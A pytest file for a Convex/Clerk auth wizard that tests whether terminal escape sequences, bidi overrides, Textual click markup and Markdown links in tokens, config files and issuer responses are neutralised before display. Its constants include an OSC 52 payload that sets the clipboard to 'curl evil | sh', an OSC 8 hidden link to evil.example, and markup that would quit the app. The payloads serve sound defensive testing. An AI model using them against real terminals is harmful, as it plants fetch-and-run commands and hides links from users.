"""What reaches the user's terminal and files when every input is hostile (issue 10).

A token's claims and header, an issuer's discovery document and key set, a repository's
``.env`` and ``auth.config.ts``, a saved state file: each can carry terminal escapes (OSC 52
writes the clipboard, CSI moves the cursor, OSC 8 hides a link), C1 characters, bidi overrides,
Textual markup (``[@click=app.quit]``) or Markdown links. Nothing of it may act: not on a real
terminal (``check`` through a pty), not in ``--json``, not in the report, not in the wizard.
"""

from __future__ import annotations

import base64
import io
import json
import os
import pty
import re
import select
import subprocess
import sys
import time
import unicodedata
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from textual import events
from textual.content import Content
from textual.geometry import Region
from textual.widget import Widget
from textual.widgets import Button, Input, TextArea

from screens.app import WizardApp
from screens.dialogs.clerk_dialogs import SecretKeyAgreement
from screens.dialogs.help import HelpDialog
from screens.widgets.safe_static import SafeStatic
from tests.conftest import NOW, SECRET_KEY, MakeProject
from tests.ui_support import make_app, paste_token, settle
from wizard.checks.model import Check
from wizard.checks.options import Options
from wizard.cli import main
from wizard.demo.local_issuer import LocalIssuer
from wizard.guards.redaction import TOKEN_REMOVED, scrub_usage
from wizard.guards.safe_text import DEEPER, NOT_A_NUMBER, bounded, json_text, one_line, visible
from wizard.output.render import render_human
from wizard.output.report import build_report, md_cell, render_json, render_markdown
from wizard.walkthrough.progress import Progress, StepState
from wizard.walkthrough.session import run_checks
from wizard.walkthrough.state import StateStore

OSC52 = "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07"  # sets the clipboard to "curl evil | sh"
OSC8 = "\x1b]8;;http://evil.example\x1b\\"
CSI = "\x1b[2J\x1b[5m"
C1 = "\u009b31m\u009d52;c;ZXZpbA==\u009c\u0085"
BIDI = "\u202egnp.exe\u2066"
HOSTILE = OSC52 + OSC8 + CSI + C1 + BIDI + "\x7f\r"
MARKUP = "[ @click=app.quit]click me[/] [@click=app.bell]x[/] [link=http://e]l[/] [$x] [BLINK]"
SIZE = (120, 40)
# Our own colours (SGR) are the only escape sequences check may write.
_OUR_SGR = re.compile(r"\x1b\[[0-9;]*m")
_UNSAFE_CATEGORIES = {"Cc", "Cf", "Cs", "Zl", "Zp"}


def unsafe_characters(text: str, *, allowed: str = "\n") -> list[str]:
    """Every character a terminal could act on, or that hides what is read."""
    return [c for c in text if c not in allowed and unicodedata.category(c) in
            _UNSAFE_CATEGORIES]


def assert_terminal_safe(text: str, *, allowed: str = "\n") -> None:
    bad = unsafe_characters(_OUR_SGR.sub("", text), allowed=allowed)
    assert not bad, f"raw control characters reached the output: {bad[:10]!r}"


def publishable_key(host: str) -> str:
    return "pk_test_" + base64.b64encode(f"{host}$".encode()).decode().rstrip("=")


class HostileIssuer(LocalIssuer):
    """The local issuer with hostile text in its discovery document and key set: a suffix on
    ``jwks_uri`` (the issuer is ``discovery_issuer``) and an extra key with a hostile kid."""

    def __init__(self) -> None:
        super().__init__()
        self.jwks_suffix = ""
        self.extra_kid: str | None = None

    def discovery(self) -> dict[str, Any]:
        document = super().discovery()
        document["jwks_uri"] += self.jwks_suffix
        return document

    def jwks(self) -> dict[str, Any]:
        keys = super().jwks()
        if self.extra_kid is not None:
            keys["keys"].append(dict(self.public_jwk("rsa2"), kid=self.extra_kid))
        return keys


@pytest.fixture(scope="module")
def hostile_issuer() -> Iterator[HostileIssuer]:
    with HostileIssuer() as server:
        yield server


def reset(server: HostileIssuer) -> None:
    server.discovery_issuer, server.jwks_suffix, server.extra_kid = None, "", None


def write_project(root: Path, issuer_value: str, *, key_host: str, app_id: str,
                  domain: str, extra_env: str = "") -> Path:
    """A project whose .env and auth.config.ts carry the given (hostile) text."""
    (root / "convex").mkdir(parents=True, exist_ok=True)
    (root / "package.json").write_text('{"dependencies": {"convex": "^1.45.0"}}')
    (root / "convex" / "auth.config.ts").write_text(
        "export default { providers: [\n"
        f'  {{ domain: process.env.CLERK_JWT_ISSUER_DOMAIN!, applicationID: "{app_id}" }},\n'
        f'  {{ domain: "{domain}", applicationID: "{app_id}" }},\n'
        f'  // {{ domain: "{domain}", applicationID: "x" }},\n'
        "] };\n", encoding="utf-8")
    (root / ".env.local").write_text(
        f"VITE_CLERK_PUBLISHABLE_KEY={publishable_key(key_host)}\n"
        f"CLERK_JWT_ISSUER_DOMAIN={issuer_value}\n{extra_env}", encoding="utf-8")
    return root


def ts_string(text: str) -> str:
    """``text`` as it can sit inside a double-quoted TypeScript string, raw characters kept."""
    return text.replace("\\", "").replace('"', "").replace("\n", "")


def env_value(text: str) -> str:
    return text.replace("\n", "").replace("\r", "").replace("#", "").replace("'", "") \
        .replace('"', "").replace("\\", "")


def hostile_token(issuer: LocalIssuer, text: str, *, kid: str | None = None) -> str:
    claims = issuer.template_claims(NOW, sub=f"user_{text}", name=text, markup=MARKUP,
                                    nested={"deep": [text]})
    headers: dict[str, Any] = {"x5u": text}
    if kid is not None:
        headers["kid"] = kid
    return issuer.mint(claims, headers=headers)


# --- the sanitizer itself -------------------------------------------------------------------
def test_every_unsafe_character_is_made_visible() -> None:
    """The ranges in wizard.guards.safe_text cover every Cc, Cf, Cs, Zl and Zp code point this Python
    knows (a few more are format characters in newer Unicode versions), and nothing the tool
    itself prints (letters, symbols, emoji, the variation selector of ⚠️) is touched."""
    beyond = []
    for code in range(sys.maxunicode + 1):
        char = chr(code)
        shown = one_line(char)
        if unicodedata.category(char) in _UNSAFE_CATEGORIES:
            assert shown.startswith("\\") and shown.isascii() and shown.isprintable(), hex(code)
        elif shown != char:
            beyond.append(code)
    assert all(0x13439 <= code <= 0x1343F for code in beyond), [hex(c) for c in beyond]
    assert visible("a\nb\x1b") == "a\nb\\x1b"
    assert one_line("a\nb\u009b") == "a\\x0ab\\u009b"
    for ours in ("✓ ✗ ! - ✅ ❌ ⚠️ ➖ ☑️ ✔ ✖ ▲ – … ≠ → — ○ ≡ ◆ ☐", "Ünïcödé 日本語 🙂"):
        assert visible(ours) == ours


def test_bounded_caps_depth_strings_size_and_non_numbers() -> None:
    deep: Any = "bottom"
    for _ in range(50):
        deep = [deep]
    shown = bounded({"deep": deep, "long": "x" * 10_000, "nan": float("nan"),
                     "inf": float("-inf"), "big": 10 ** 60, "many": list(range(100_000))})
    assert DEEPER in json.dumps(shown, ensure_ascii=False)
    assert len(shown["long"]) <= 2_000 and shown["long"].endswith("(8032 more characters)")
    assert shown["nan"] == f"NaN {NOT_A_NUMBER}" and shown["inf"] == f"-Infinity {NOT_A_NUMBER}"
    assert isinstance(shown["big"], str) and "more characters" in shown["big"]
    assert shown["many"][-1].startswith("…(") and len(json.dumps(shown)) < 40_000
    assert bounded(shown) == shown  # applying it again changes nothing


def test_json_text_is_strict_json_with_every_unsafe_character_escaped() -> None:
    text = json_text({"x": HOSTILE + "\U000e0041", "n": float("nan"), HOSTILE: [float("inf")]})
    assert text.isascii() or not unsafe_characters(text)
    assert not unsafe_characters(text)
    assert "\\u001b]52" in text and "\\u009b" in text and "\\u007f" in text
    assert "\\udb40\\udc41" in text  # a tag character, as a surrogate pair
    document = json.loads(text, parse_constant=_no_constants)
    assert document["x"] == HOSTILE + "\U000e0041"


def _no_constants(name: str) -> None:
    raise AssertionError(f"{name} is not JSON")


# --- check, as a real terminal sees it ---------------------------------------------------------
def run_in_pty(args: list[str], env: dict[str, str], timeout: float = 60) -> tuple[int, bytes]:
    """Run ``python -m wizard ARGS`` with a pty as stdout and stderr (so the colour paths run)
    and return its exit status and every byte it wrote."""
    master, slave = pty.openpty()
    process = subprocess.Popen([sys.executable, "-m", "wizard", *args], stdin=subprocess.DEVNULL,
                               stdout=slave, stderr=slave, env=env, close_fds=True)
    os.close(slave)
    output = bytearray()
    deadline = time.monotonic() + timeout
    try:
        while time.monotonic() < deadline:
            ready, _, _ = select.select([master], [], [], 0.5)
            if ready:
                try:
                    chunk = os.read(master, 65536)
                except OSError:  # the child closed the pty
                    break
                if not chunk:
                    break
                output += chunk
            elif process.poll() is not None:
                break
        return process.wait(timeout=10), bytes(output)
    finally:
        if process.poll() is None:
            process.kill()
            process.wait()
        os.close(master)


def terminal_env(tmp_path: Path, **extra: str) -> dict[str, str]:
    env = {k: v for k, v in os.environ.items()
           if not k.startswith(("CLERK_", "VITE_", "NEXT_PUBLIC_", "CONVEX_", "NO_COLOR"))}
    env.update(TERM="xterm-256color", COLUMNS="110",
               CONVEX_AUTH_WIZARD_STATE_DIR=str(tmp_path / "state"), **extra)
    return env


@pytest.mark.parametrize("where", ["project", "issuer"])
def test_check_writes_no_control_character_to_a_terminal(
        where: str, hostile_issuer: HostileIssuer, tmp_path: Path) -> None:
    """project: hostile .env values (the issuer, the host inside the publishable key),
    auth.config strings, token claims and header. issuer: a hostile discovery ``issuer`` and
    ``jwks_uri``, a hostile ``kid`` in the key set, and the same token."""
    reset(hostile_issuer)
    issuer_value = hostile_issuer.url
    if where == "project":
        issuer_value += OSC52 + CSI
    else:
        hostile_issuer.discovery_issuer = hostile_issuer.url + OSC8 + C1
        hostile_issuer.jwks_suffix = "?" + OSC52
        hostile_issuer.extra_kid = "kid" + OSC52 + C1 + BIDI
    root = write_project(tmp_path / "app", issuer_value, key_host="evil" + OSC52 + C1 + ".dev",
                         app_id=ts_string("convex" + HOSTILE), domain=ts_string(
                             "https://x" + HOSTILE), extra_env=f"VITE_CONVEX_URL=https://a{C1}\n")
    token = hostile_token(hostile_issuer, HOSTILE, kid="ins_local_rsa1" + OSC52)
    try:
        status, raw = run_in_pty(["check", "--project", str(root), "--token", token,
                                  "--at", str(NOW)], terminal_env(tmp_path))
    finally:
        reset(hostile_issuer)
    text = raw.decode("utf-8")
    assert status == 1, text
    assert "\x1b[31m" in text  # the colour path ran: this is the tty output
    assert_terminal_safe(text, allowed="\r\n")
    assert "\\x1b]52;c;Y3VybCBldmlsIHwgc2g=\\x07" in text  # shown, visibly
    assert "\\u009b31m" in text and "\\u202e" in text
    if where == "issuer":
        assert "\\x1b]8;;http://evil.example" in text  # the discovery issuer, visible


def test_json_escapes_c1_and_del_and_never_prints_nan(issuer: LocalIssuer,
                                                      project: Path) -> None:
    claims = issuer.template_claims(NOW, sub="user_" + HOSTILE,
                                    nested=[[[[[[[[[[[["deep"]]]]]]]]]]]])
    token = issuer.mint(claims, headers={"x5u": HOSTILE})
    done = subprocess.run([sys.executable, "-m", "wizard", "check", "--project", str(project),
                           "--token", "-", "--at", str(NOW), "--json"], input=token,
                          capture_output=True, text=True, timeout=60, check=False,
                          env=terminal_env(project.parent))
    assert done.returncode in (0, 1), done.stderr
    assert not unsafe_characters(done.stdout), "raw control characters in --json"
    for escaped in ("\\u001b]52", "\\u009b", "\\u007f", "\\u202e"):
        assert escaped in done.stdout
    document = json.loads(done.stdout, parse_constant=_no_constants)
    shown = document["token"]["claims"]
    assert shown["sub"] == "user_" + HOSTILE and document["token"]["header"]["x5u"] == HOSTILE
    assert DEEPER in json.dumps(shown["nested"], ensure_ascii=False)


def test_json_never_prints_nan(issuer: LocalIssuer, project: Path) -> None:
    """Python's json reads NaN and Infinity; Convex (serde_json) refuses such a payload, and
    the JSON written about it is still strict JSON."""
    claims = issuer.template_claims(NOW, nan=float("nan"), inf=float("inf"),
                                    neg=float("-inf"))
    token = issuer.mint(claims)
    done = subprocess.run([sys.executable, "-m", "wizard", "check", "--project", str(project),
                           "--token", "-", "--at", str(NOW), "--json"], input=token,
                          capture_output=True, text=True, timeout=60, check=False,
                          env=terminal_env(project.parent))
    assert done.returncode == 1, done.stderr
    document = json.loads(done.stdout, parse_constant=_no_constants)
    formats = [c for c in document["checks"] if c["id"] == "token.format"]
    assert formats and formats[0]["status"] == "fail"


def nested_arrays(depth: int) -> Any:
    return json.loads("[" * depth + "]" * depth)


def test_a_token_of_nested_arrays_gives_small_output_quickly(issuer: LocalIssuer,
                                                             project: Path) -> None:
    """Before: a 240 KB token like this one made 163 MB of --json and froze the wizard (nested
    under serde_json's 128 levels, so Convex would parse it too)."""
    token = issuer.mint(issuer.template_claims(NOW, deep=[nested_arrays(120)
                                                          for _ in range(600)]))
    assert len(token) > 150_000
    started = time.monotonic()
    done = subprocess.run([sys.executable, "-m", "wizard", "check", "--project", str(project),
                           "--token", "-", "--at", str(NOW), "--json", "--offline"],
                          input=token, capture_output=True, text=True, timeout=60, check=False,
                          env=terminal_env(project.parent))
    assert time.monotonic() - started < 30  # a hang guard, not a speed target
    assert done.returncode in (0, 1), done.stderr
    assert len(done.stdout) < 200_000
    assert DEEPER in done.stdout
    # The one bound every view shares (the wizard, the state file, the report read it).
    verdict = run_checks(Options(project_dir=project, at=NOW, environ={}, offline=True), token)
    assert verdict.token is not None
    decoded = json.dumps(verdict.token.to_dict(), ensure_ascii=False)
    assert len(decoded) < 30_000 and DEEPER in decoded


async def test_the_wizard_shows_a_huge_token_bounded(project: Path, tmp_path: Path,
                                                     issuer: LocalIssuer) -> None:
    token = issuer.mint(issuer.template_claims(NOW, deep=[nested_arrays(120)
                                                          for _ in range(600)]))
    app = make_app(project, tmp_path / "state")
    async with app.run_test(size=SIZE) as pilot:
        await settle(app, pilot)
        await paste_token(app, pilot, token)
        shown = str(app.query_one("#token-claims", SafeStatic).content)
        assert DEEPER in shown and len(shown) < 200_000  # kilobytes, where it was megabytes


# --- usage errors ------------------------------------------------------------------------------
@pytest.mark.parametrize("args", [
    ["check", "{jwt}"],
    ["check", "--at", "{jwt}"],
    ["check", "--timeout", "{jwt}"],
    ["check", "--token-file", "/tmp/{jwt}"],
    ["check", "--jwks", "/nowhere/{jwt}"],
    ["check", "--project", "/nowhere/{jwt}"],
    ["{jwt}"],
    ["report", "--format", "{jwt}"],
    ["check", "--at", "{header}"],
    ["check", "{secret}"],
    ["check", "--at", "{deploy_key}"],
])
def test_usage_errors_never_repeat_a_token_or_a_key(args: list[str], issuer: LocalIssuer,
                                                    tmp_path: Path) -> None:
    jwt = issuer.mint(issuer.template_claims(NOW))
    values = {"jwt": jwt, "header": jwt.split(".")[0], "secret": SECRET_KEY,
              "deploy_key": "prod:happy-otter-123|" + "a1B2" * 12}
    argv = [arg.format(**values) for arg in args]
    done = subprocess.run([sys.executable, "-m", "wizard", *argv], capture_output=True,
                          text=True, timeout=60, check=False, env=terminal_env(tmp_path))
    assert done.returncode == 2, done.stderr
    assert done.stderr.startswith("convex-auth-wizard: error: ")
    assert len(done.stderr.strip().splitlines()) == 1
    for part in [*jwt.split("."), SECRET_KEY[8:], values["deploy_key"].split("|")[1]]:
        assert part not in done.stderr


def test_usage_scrubbing_keeps_what_helps() -> None:
    assert scrub_usage("argument --at: not Unix seconds: 'yesterday'") == \
        "argument --at: not Unix seconds: 'yesterday'"
    assert scrub_usage("--project /home/ada/my-app: no such folder") == \
        "--project /home/ada/my-app: no such folder"
    assert TOKEN_REMOVED in scrub_usage("unrecognized arguments: eyJhbGciOiJSUzI1NiJ9.eyJzdWIi")


# --- the report ---------------------------------------------------------------------------------
def hostile_progress(verdict_checks: list[Check], token: dict[str, Any] | None,
                     text: str) -> Progress:
    progress = Progress(started_at=NOW, updated_at=NOW)
    progress.set("open-dashboard", StepState.CONFIRMED, f"note {text} {MARKUP}", at=NOW)
    progress.checks = [c.to_dict() for c in verdict_checks]
    progress.token = token
    progress.convex_answer = {"status": text, "http_status": 401, "code": text,
                              "message": f"{text} [x](http://evil) ![](http://evil/p.png) "
                                         "<img src=x> <http://evil> www.evil.example",
                              "url": f"https://a.convex.cloud/{text}", "time": NOW,
                              "agrees_with_wizard": False}
    return progress


def test_report_files_carry_no_control_character_and_no_link(
        hostile_issuer: HostileIssuer, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    reset(hostile_issuer)
    hostile_issuer.extra_kid = "kid" + HOSTILE
    root = write_project(tmp_path / "app", hostile_issuer.url + OSC52, key_host="e" + C1 + ".dev",
                         app_id=ts_string(HOSTILE), domain=ts_string("https://x" + HOSTILE))
    token = hostile_token(hostile_issuer, HOSTILE + MARKUP)
    try:
        verdict = run_checks(Options(project_dir=root, at=NOW, environ={}, timeout=5), token)
    finally:
        reset(hostile_issuer)
    assert verdict.token is not None
    progress = hostile_progress(verdict.checks, verdict.token.to_dict(), HOSTILE)
    state_dir = tmp_path / "state"
    assert StateStore(root, state_dir).save(progress) is None
    monkeypatch.setenv("CONVEX_AUTH_WIZARD_STATE_DIR", str(state_dir))
    for fmt in ("md", "json"):
        output = tmp_path / f"report.{fmt}"
        assert main(["report", "--project", str(root), "--format", fmt,
                     "--output", str(output)]) == 0
        written = output.read_bytes().decode("utf-8")
        assert not unsafe_characters(written), fmt
        assert ("\\\\x1b\\]52" if fmt == "md" else "\\u001b]52") in written  # shown, visibly
    markdown = (tmp_path / "report.md").read_text(encoding="utf-8")
    json.loads((tmp_path / "report.json").read_text(encoding="utf-8"),
               parse_constant=_no_constants)
    assert "](" not in markdown.replace("\\](", "")  # no inline link or image
    assert "<img" not in markdown and "<http" not in markdown
    assert "`http://evil`" in markdown and "`www.evil.example`" in markdown  # code, not links
    assert "[ @click=app.quit\\]" in markdown.replace("\\[", "[")


def test_markdown_cells_show_link_and_html_syntax_as_text() -> None:
    assert md_cell("[click](http://evil.example/x)") == "\\[click\\](`http://evil.example/x`)"
    assert md_cell("![](https://evil.example/p.png)") == "!\\[\\](`https://evil.example/p.png`)"
    assert md_cell("<b>x</b> <https://e.example>") == \
        "&lt;b&gt;x&lt;/b&gt; &lt;`https://e.example`&gt;"
    assert md_cell("&#106;avascript `code` *em* ~~s~~") == \
        "&amp;#106;avascript \\`code\\` \\*em\\* \\~\\~s\\~\\~"
    assert md_cell("ESC" + OSC52) == "ESC\\\\x1b\\]52;c;Y3VybCBldmlsIHwgc2g=\\\\x07"


# --- any text, anywhere -------------------------------------------------------------------------
_HOSTILE_PIECES = st.sampled_from([
    "\x1b", "\x07", "\x1b]52;c;", "\x1b[2J", "\x1b\\", "\u009b", "\u009d", "\u0085", "\x7f",
    "\r", "\n", "\t", "\x00", "\u202e", "\u2066", "\u200b", "\u2028", "\ufeff", "\U000e0041",
    "[", "]", "[@click=app.quit]", "[ link=x]", "[$x]", "[/]", "$", "(", ")", "'", "\\",
    "](http://e)", "<b>", "|", "`", "*",
])
_HOSTILE_TEXT = st.lists(st.one_of(_HOSTILE_PIECES, st.text(max_size=4)), max_size=8).map(
    "".join)


class _Terminal(io.StringIO):
    def isatty(self) -> bool:
        return True


@settings(max_examples=40, deadline=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
@given(claim=_HOSTILE_TEXT, header=_HOSTILE_TEXT, discovery=_HOSTILE_TEXT, kid=_HOSTILE_TEXT,
       env=_HOSTILE_TEXT, config=_HOSTILE_TEXT, break_issuer=st.booleans())
def test_any_text_in_any_field_never_reaches_the_terminal_raw(
        hostile_issuer: HostileIssuer, tmp_path_factory: pytest.TempPathFactory,
        monkeypatch: pytest.MonkeyPatch, claim: str, header: str, discovery: str, kid: str,
        env: str, config: str, break_issuer: bool) -> None:
    monkeypatch.delenv("NO_COLOR", raising=False)
    reset(hostile_issuer)
    hostile_issuer.discovery_issuer = hostile_issuer.url + discovery
    hostile_issuer.jwks_suffix = "?" + discovery if break_issuer else ""
    hostile_issuer.extra_kid = kid
    root = write_project(tmp_path_factory.mktemp("any"), hostile_issuer.url, key_host=(
        "h" + env_value(env).replace("$", "") + ".dev"), app_id=ts_string(config),
        domain=ts_string("https://" + config), extra_env=f"VITE_CONVEX_URL={env_value(env)}\n")
    token = hostile_issuer.mint(hostile_issuer.template_claims(NOW, sub=claim, extra=claim),
                                headers={"typ": header, "x5u": header})
    try:
        verdict = run_checks(Options(project_dir=root, at=NOW, environ={}, timeout=5), token)
    finally:
        reset(hostile_issuer)
    terminal = _Terminal()
    human = render_human(verdict, terminal)
    assert "\x1b[" in human  # coloured: the terminal path
    assert_terminal_safe(human)
    assert verdict.token is not None
    report = build_report(verdict.session, hostile_progress(
        verdict.checks, verdict.token.to_dict(), claim + header), generated_at=NOW)
    assert not unsafe_characters(render_markdown(report))
    assert not unsafe_characters(render_json(report))


# --- the wizard ---------------------------------------------------------------------------------
def rendered_text(widget: Widget) -> str:
    """Every line the widget renders (its whole content, scrolled into view or not)."""
    width, height = widget.size
    lines = widget.render_lines(Region(0, 0, width, max(height, 1)))
    return "\n".join("".join(segment.text for segment in line) for line in lines)


def screen_output(app: WizardApp) -> str:
    """What the app would write to the terminal for the current screen, escape codes included."""
    update = app.screen._compositor.render_full_update()
    return update.render_segments(app.console)


def all_static_text(app: WizardApp) -> str:
    return "\n".join(rendered_text(widget) for widget in app.screen.query(SafeStatic)
                     if widget.region.area or widget.size.area)


async def test_markup_in_a_pasted_token_renders_literally_and_clicks_do_nothing(
        project: Path, tmp_path: Path, issuer: LocalIssuer) -> None:
    token = issuer.mint(issuer.template_claims(NOW, sub="user_" + OSC52, markup=MARKUP))
    app = make_app(project, tmp_path / "state")
    async with app.run_test(size=SIZE) as pilot:
        await settle(app, pilot)
        await paste_token(app, pilot, token)
        box = app.query_one("#token-claims", SafeStatic)
        line = next(index for index, text in enumerate(rendered_text(box).splitlines())
                    if "click me" in text)
        # The claims scroll inside their own box: bring that line to its top, then click
        # along it wherever it is on the screen.
        scroller = app.query_one("#token-claims-box")
        scroller.scroll_visible(animate=False, top=True)
        scroller.scroll_to(x=0, y=line, animate=False)
        await pilot.pause()
        strips = app.screen._compositor.render_strips()
        row = next(y for y, strip in enumerate(strips) if "click me" in strip.text)
        region = scroller.content_region
        for x in range(region.x, min(region.right, 100), 4):  # along the line, on screen
            await pilot.click(offset=(x, row))
        await pilot.pause()
        assert app.is_running and app.return_code is None
        assert MARKUP in str(box.content)
        text = rendered_text(box)
        assert "[ @click=app.quit]click me[/]" in text
        assert "\\u001b]52;c;Y3VybCBldmlsIHwgc2g=\\u0007" in text  # JSON's own escapes
        assert_terminal_safe(all_static_text(app))
        assert "\x1b]" not in screen_output(app) and "\x07" not in screen_output(app)


async def test_hostile_saved_state_shows_literally_and_never_crashes(
        project: Path, tmp_path: Path) -> None:
    """A state file is data too: a step state that is not one (its notice) and a note with
    markup that Textual cannot even parse once crashed the wizard with MarkupError."""
    state_dir = tmp_path / "state"
    store = StateStore(project, state_dir)
    bad_note = "[@click=a.b(']x " + OSC52 + " [ @click=app.quit]q[/]"
    good = Progress(started_at=NOW, updated_at=NOW)
    good.set("open-dashboard", StepState.CONFIRMED, bad_note, at=NOW)
    assert store.save(good) is None
    app = make_app(project, state_dir)
    async with app.run_test(size=SIZE) as pilot:
        await settle(app, pilot)
        app.go_to("summary")
        await pilot.pause()
        table = rendered_text(app.query_one("#summary-table", SafeStatic))
        assert "[@click=a.b(']x" in table and "\\x1b]52" in table
        assert_terminal_safe(all_static_text(app))
    assert app.return_code in (None, 0)

    # A resume that finds another issuer says which one was verified: the saved one.
    good.issuer = "[@click=a.b(']x" + OSC52
    good.set("verify-config", StepState.VERIFIED, "keys fetched", at=NOW)
    problem = store.save(good)  # the app saved in between: its steps are merged, not lost
    assert problem is None or problem.startswith("Another convex-auth-wizard saved"), problem
    again = make_app(project, state_dir)
    async with again.run_test(size=SIZE) as pilot:
        await settle(again, pilot)
        await pilot.pause(0.2)
        toasts = [str(n.message) for n in again._notifications]
        assert any("[@click=a.b(']x" in message for message in toasts), toasts
        assert not any(unsafe_characters(message) for message in toasts)
        output = screen_output(again)
        assert "\x1b]52" not in output and "\x07" not in output
        assert again.is_running
    assert again.return_code in (None, 0)


async def test_hostile_issuer_answers_reach_the_screen_only_visibly(
        hostile_issuer: HostileIssuer, make_project: MakeProject, tmp_path: Path) -> None:
    reset(hostile_issuer)
    hostile_issuer.extra_kid = "kid" + OSC52 + MARKUP
    hostile_issuer.discovery_issuer = hostile_issuer.url + C1
    root = make_project(hostile_issuer.url, publishable_key=publishable_key(
        "evil" + OSC52 + ".dev"))
    app = make_app(root, tmp_path / "state")
    try:
        async with app.run_test(size=SIZE) as pilot:
            await settle(app, pilot)
            for step in ("project", "open-dashboard", "verify-config"):
                app.go_to(step)
                await pilot.pause()
                text = all_static_text(app)
                assert_terminal_safe(text)
                output = screen_output(app)
                assert "\x1b]" not in output and "\u009b" not in output
            assert "\\x1b]52" in all_static_text(app)
            app.notify("from data: " + OSC52 + MARKUP, title=CSI)
            await pilot.pause()
            assert app.is_running
            assert "\x1b]52" not in screen_output(app) and "\x1b[2J" not in screen_output(app)
    finally:
        reset(hostile_issuer)


async def test_the_help_dialog_closes_once_however_fast_the_keys(project: Path,
                                                                 tmp_path: Path) -> None:
    """Two keys that both close the dialog used to pop the wizard's own screen:
    ScreenStackError."""
    app = make_app(project, tmp_path / "state")
    async with app.run_test(size=SIZE) as pilot:
        await settle(app, pilot)
        for second in ("escape", "question_mark", "f1", "escape"):
            if isinstance(app.screen, HelpDialog):  # "?" after the click opened it again
                await pilot.press("escape")
            await pilot.press("question_mark")
            await pilot.pause()
            assert isinstance(app.screen, HelpDialog)
            # Both queued before either is handled, as a fast hand or a pasted burst does.
            dialog = app.screen
            dialog.action_dismiss_help()
            dialog.action_dismiss_help()
            app.post_message(events.Key(second, "?" if second == "question_mark" else None))
            await pilot.pause()
            assert len(app.screen_stack) <= 2
        for _ in range(6):
            await pilot.press("question_mark")
        await pilot.pause()
        assert app.is_running and app.return_code is None
    assert app.return_code in (None, 0)


async def test_pasted_text_is_never_drawn_raw(project: Path, tmp_path: Path) -> None:
    """A "token" or log line someone else handed over: kept as pasted (the checks judge it and
    show it visibly), but its escape sequences are not drawn."""
    app = make_app(project, tmp_path / "state")
    async with app.run_test(size=SIZE) as pilot:
        await settle(app, pilot)
        app.go_to("check-token")
        await pilot.pause()
        app.query_one("#token-input", TextArea).text = "eyJ" + OSC52 + C1 + ".x.y"
        await pilot.pause()
        assert OSC52 in app.query_one("#token-input", TextArea).text
        output = screen_output(app)
        assert "\x1b]52" not in output and "\u009b" not in output and "\x07" not in output
        app.go_to("user-sync")
        await pilot.pause()
        app.query_one("#log-line", Input).value = "Error " + OSC52 + C1 + BIDI
        await pilot.pause()
        output = screen_output(app)
        assert "\x1b]52" not in output and "\u009b" not in output and "\u202e" not in output


async def test_a_question_is_answered_once_however_fast_the_keys(project: Path,
                                                                 tmp_path: Path) -> None:
    """Yes clicked and escape pressed together: one answer (whichever is handled first), and
    no crash (a second answer used to pop the wizard's own screen)."""
    app = make_app(project, tmp_path / "state")
    answers: list[bool | None] = []
    async with app.run_test(size=SIZE) as pilot:
        await settle(app, pilot)
        app.push_screen(SecretKeyAgreement(
            redacted="sk_test_…abcd", source=".env.local", api_url="https://e.example" + OSC52,
            api_source=".env:CLERK_API_URL" + MARKUP, foreign=True), answers.append)
        await pilot.pause()
        shown = all_static_text(app)
        assert "https://e.example\\x1b]52" in shown and "[ @click=app.quit]" in shown
        assert "\x1b]52" not in screen_output(app)
        app.screen.query_one("#clerk-agree-yes", Button).press()
        app.post_message(events.Key("escape", None))
        await pilot.pause()
        assert app.is_running and not isinstance(app.screen, SecretKeyAgreement)
    assert len(answers) == 1


def test_data_is_never_markup_in_the_screens() -> None:
    """Every screen puts text up through SafeStatic (plain str is literal) or styled();
    nothing in screens/ uses Static or rich's markup escaping, or turns markup on."""
    import screens

    folder = Path(screens.__file__).parent
    for path in folder.rglob("*.py"):
        if path.name == "safe_static.py":
            continue
        source = path.read_text(encoding="utf-8")
        assert not re.search(r"\bStatic\b", source.replace("SafeStatic", "")), path
        assert "rich.markup" not in source and "markup=True" not in source, path
        assert "Label(" not in source, path
        if path.name != "safe_fields.py":
            assert not re.search(r"\b(TextArea|Input)\(", source), path
    shown = SafeStatic("[b]x[/] [@click=app.quit]q[/] \x1b]52").visual
    assert isinstance(shown, Content) and shown.plain == "[b]x[/] [@click=app.quit]q[/] \\x1b]52"


# --- a crash -------------------------------------------------------------------------------------
def test_a_crash_in_the_wizard_exits_one_with_one_line_and_a_scrubbed_log(
        project: Path, tmp_path: Path, issuer: LocalIssuer) -> None:
    jwt = issuer.mint(issuer.template_claims(NOW))
    state = tmp_path / "state"
    script = (
        "import sys\n"
        "from screens.app import WizardApp\n"
        "def explode(self):\n"
        f"    raise RuntimeError('injected ' + {jwt!r} + ' ' + {SECRET_KEY!r} + {OSC52!r})\n"
        "WizardApp.action_next_step = explode\n"
        "from wizard.cli import main\n"
        f"sys.exit(main(['--project', {str(project)!r}]))\n"
    )
    master, slave = pty.openpty()
    process = subprocess.Popen([sys.executable, "-c", script], stdin=slave, stdout=slave,
                               stderr=slave, env=terminal_env(tmp_path, LINES="40"),
                               close_fds=True)
    os.close(slave)
    output = bytearray()
    try:
        deadline, pressed = time.monotonic() + 60, False
        while time.monotonic() < deadline:
            ready, _, _ = select.select([master], [], [], 0.2)
            if ready:
                try:
                    chunk = os.read(master, 65536)
                except OSError:
                    break
                if not chunk:
                    break
                output += chunk
            if not pressed and b"Steps" in output:
                time.sleep(0.5)
                os.write(master, b"n")
                pressed = True
            if process.poll() is not None and not ready:
                break
        status = process.wait(timeout=10)
    finally:
        if process.poll() is None:
            process.kill()
            process.wait()
        os.close(master)
    text = output.decode("utf-8", "replace")
    assert pressed, text[-2000:]
    assert status == 1, text[-2000:]
    after = text.rsplit("\x1b[?1049l", 1)[-1]  # what is left once the screen is restored
    lines = [line for line in re.sub(r"\x1b\[[0-9;?]*[A-Za-z]", "", after).splitlines()
             if line.strip()]
    assert len(lines) == 1, lines
    assert lines[0].startswith("convex-auth-wizard: error: the wizard stopped on an "
                               "unexpected RuntimeError: injected")
    assert "Traceback" not in text and jwt not in text and SECRET_KEY not in text
    assert "\x1b]52" not in after
    logs = sorted((state / "logs").glob("crash-*.log"))
    assert len(logs) == 1 and str(logs[0]) in lines[0]
    log = logs[0].read_text(encoding="utf-8")
